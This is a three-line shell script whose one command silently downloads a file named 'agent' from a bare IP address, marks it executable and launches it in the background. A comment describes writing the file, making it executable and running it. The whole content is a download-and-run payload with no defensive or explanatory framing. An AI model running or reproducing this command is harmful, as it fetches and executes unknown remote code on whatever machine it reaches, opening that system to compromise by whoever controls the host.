#!/bin/sh
# Written to a file with combined short options, made executable, run.
wget -qO ./agent http://91.92.242.30/agent && chmod 755 ./agent && ./agent &
